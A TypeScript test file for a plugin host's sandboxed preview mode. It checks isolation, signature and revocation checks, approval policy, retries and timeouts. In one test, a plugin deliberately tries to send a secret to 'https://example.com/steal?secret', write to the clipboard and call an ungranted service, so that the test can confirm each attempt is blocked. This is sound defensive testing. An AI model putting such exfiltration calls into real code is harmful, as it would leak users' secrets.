import { beforeEach, describe, expect, it, vi } from 'vitest';
import { testWorld, type TestWorld } from '../../../test/fixtures/host.ts';
import { previewServices, type PreviewNote } from '../../services/preview.ts';
import { AirlockError } from '../errors.ts';
import { memoryStore } from '../storage/memory-store.ts';
import type { Service } from '../dispatch/service.ts';
import { TABLES, type Store } from '../storage/store.ts';

/** Everything that a store holds. */
const contentOf = (store: Store): Promise<unknown> =>
  store.transaction(TABLES, 'read', (tx) => Promise.all(TABLES.map((table) => tx.entries(table))));

const records = { submissions: [{ id: 'made-up', values: { name: 'Ada' } }] };
const permissions = {
  storage: { reason: 'Counts.' },
  data: { reason: 'Reads.', read: ['submissions'] },
  network: { reason: 'Sends.', origins: ['https://example.com'] },
  clipboard: { reason: 'Copies.', optional: true },
} as const;

const { signal } = new AbortController();
let world: TestWorld;
let notes: PreviewNote[];

beforeEach(async () => {
  world = await testWorld(memoryStore());
  notes = [];
});

const services = () => previewServices(records, (note) => notes.push(note));

describe('a preview', () => {
  it('runs the verified release with made-up records, and changes nothing that is stored', async () => {
    const seen: unknown[] = [];
    await world.publish({
      id: 'curious',
      manifest: {
        permissions: { ...permissions, commands: { reason: 'Is run.' } },
        contributes: { commands: [{ id: 'look', title: 'Look' }] },
      },
      code: {
        commands: {
          async look(_, call) {
            await call('storage.set', ['count', 1], signal);
            seen.push(await call('data.list', ['submissions'], signal), await call('storage.get', ['count'], signal));
            for (const [method, args] of [
              ['network.fetch', ['https://example.com/steal?secret']],
              ['clipboard.write', ['mine']],
              ['users.own.service', []],
            ] as const) {
              await call(method, args, signal).catch((error: unknown) => seen.push((error as { code: string }).code));
            }
          },
        },
      },
    });
    const asked = vi.fn(() => 'the secrets of the user');
    const app: Service = { name: 'users', methods: { all: { args: [], handle: asked } } };
    const host = await world.host({ services: [app] });
    await host.catalogue.refresh();
    const before = await contentOf(world.store);

    const preview = await host.preview(world.name('curious'), { services: services() });
    expect(preview.plugin).toMatchObject({ id: 'curious', realm: 'worker' });
    await preview.host.plugins.runCommand(preview.plugin.name, 'look');
    expect(seen).toEqual([
      [{ id: 'made-up', values: { name: 'Ada' } }],
      1,
      'NETWORK_FAILED',
      'PERMISSION_DENIED',
      'SERVICE_UNKNOWN',
    ]);
    expect(notes).toEqual([{ kind: 'network', text: 'https://example.com/steal' }]);
    expect(asked).not.toHaveBeenCalled();
    expect(host.plugins.list()).toEqual([]);
    expect(host.contributions.all('commands')).toEqual([]);

    await preview.close();
    expect(await contentOf(world.store)).toEqual(before);
  });

  it('shows nothing of an earlier one: each begins empty', async () => {
    const counts: unknown[] = [];
    await world.publish({
      id: 'counter',
      manifest: {
        permissions: { storage: { reason: 'Counts.' }, commands: { reason: 'Is run.' } },
        contributes: { commands: [{ id: 'count', title: 'Count' }] },
      },
      code: {
        commands: {
          async count(_, call) {
            counts.push(await call('storage.get', ['count'], signal));
            await call('storage.set', ['count', 1], signal);
          },
        },
      },
    });
    const host = await world.host();
    for (let turn = 0; turn < 2; turn += 1) {
      const preview = await host.preview(world.name('counter'), { services: services() });
      await preview.host.plugins.runCommand(preview.plugin.name, 'count');
      await preview.close();
    }
    expect(counts).toEqual([undefined, undefined]);
  });

  it('is tried once more where the machine was too busy to start it in time, and no third time', async () => {
    let late = 1;
    const onStart = (): void => {
      if ((late -= 1) >= 0) throw new AirlockError('START_TIMEOUT', 'It did not register in time.');
    };
    await world.publish({ id: 'busy', code: { onStart } });
    const host = await world.host();
    const preview = await host.preview(world.name('busy'), { services: services() });
    expect(preview.host.plugins.get(preview.plugin.name)?.state.kind).toBe('active');
    await preview.close();
    late = 2;
    await expect(host.preview(world.name('busy'), { services: services() })).rejects.toMatchObject({
      code: 'START_TIMEOUT',
    });
    late = 0;
    const broken = (): never => {
      throw new Error('Broken.');
    };
    await world.publish({ id: 'broken', code: { onStart: broken } });
    await expect(host.preview(world.name('broken'), { services: services() })).rejects.not.toMatchObject({
      code: 'START_TIMEOUT',
    });
    expect(world.started).toEqual(['busy 1.0.0', 'busy 1.0.0', 'busy 1.0.0', 'busy 1.0.0', 'broken 1.0.0']);
  });

  it('ends the code when it is closed', async () => {
    await world.publish({ id: 'small' });
    const host = await world.host();
    const preview = await host.preview(world.name('small'), { services: services() });
    expect(preview.host.plugins.get(preview.plugin.name)?.state.kind).toBe('active');
    await preview.close();
    expect(world.started).toEqual(['small 1.0.0']);
    expect(preview.host.contributions.list('dashboard.widget')).toEqual([]);
  });
});

describe('a preview is refused', () => {
  it('for what runs in the page alone: there is no sandbox', async () => {
    await world.publish({ id: 'paged', manifest: { targets: { page: { entry: 'worker.js', container: 'paged' } } } });
    const host = await world.host();
    await expect(host.preview(world.name('paged'), { services: services() })).rejects.toMatchObject({
      code: 'REALM_MISSING',
    });
    expect(world.started).toEqual([]);
  });

  it('for what was withdrawn, by what this browser knew already', async () => {
    await world.publish({ id: 'bad' });
    const host = await world.host();
    await host.preview(world.name('bad'), { services: services() }).then((preview) => preview.close());
    const old = new Map(world.registry.files);
    const plugin = world.registry.plugins.get('bad');
    if (plugin) plugin.state = 'revoked';
    await world.registry.publish();
    await host.catalogue.refresh();
    // The operator's server shows the state from before again.
    for (const path of world.registry.files.keys()) {
      if (path.startsWith('metadata/') && !old.has(path)) world.registry.files.delete(path);
    }
    for (const [path, bytes] of old) world.registry.files.set(path, bytes);
    await expect(host.preview(world.name('bad'), { services: services() })).rejects.toMatchObject({
      category: 'security',
    });
    expect(world.started).toEqual(['bad 1.0.0']);
  });

  it('for bytes that are not what was signed', async () => {
    const release = await world.publish({ id: 'changed' });
    const host = await world.host();
    await host.catalogue.refresh();
    for (const bytes of release.files.values()) {
      const { sha256 } = await world.registry.put('b', bytes);
      world.registry.files.set(`b/${sha256}`, new TextEncoder().encode('something else'));
    }
    await expect(host.preview(world.name('changed'), { services: services() })).rejects.toMatchObject({
      code: 'PACKAGE_REFUSED',
    });
    expect(world.started).toEqual([]);
  });

  it('where the policy wants somebody to agree first', async () => {
    await world.publish({ id: 'new' });
    const host = await world.host({ policy: { approval: { approvers: [] } } });
    await expect(host.preview(world.name('new'), { services: services() })).rejects.toMatchObject({
      code: 'APPROVAL_NEEDED',
    });
    expect(world.started).toEqual([]);
  });

  it('when a step stands still, and at once when it is given up meanwhile', async () => {
    await world.publish({ id: 'small' });
    let isStuck = false;
    const host = await world.host({
      fetch: (...given) => (isStuck ? new Promise<never>(() => {}) : world.registry.fetch(...given)),
    });
    const steps: string[] = [];
    const options = { services: services(), onStep: (step: string) => void steps.push(step) };
    // The control: the same preview comes about.
    const preview = await host.preview(world.name('small'), options);
    expect(steps).toEqual(['plan', 'files', 'start']);
    expect(Object.keys(preview.took)).toEqual(['plan', 'files', 'start']);
    await preview.close();

    isStuck = true;
    await world.publish({ id: 'other' });
    const stuck = host.preview(world.name('other'), { ...options, patience: 5000 });
    await vi.waitFor(() => expect(steps).toHaveLength(4));
    world.clock.advance(4999);
    world.clock.advance(1);
    await expect(stuck).rejects.toMatchObject({ code: 'START_TIMEOUT', detail: { step: 'plan' } });

    const gone = new AbortController();
    const given = host.preview(world.name('other'), { ...options, signal: gone.signal });
    await vi.waitFor(() => expect(steps).toHaveLength(5));
    gone.abort(new Error('gone'));
    await expect(given).rejects.toThrow('gone');
    expect(world.started).toEqual(['small 1.0.0']);
  });

  it('when it is given up', async () => {
    await world.publish({ id: 'slow' });
    const host = await world.host();
    const gone = AbortSignal.abort(new Error('gone'));
    await expect(host.preview(world.name('slow'), { services: services(), signal: gone })).rejects.toThrow('gone');
    expect(world.started).toEqual([]);
  });
});
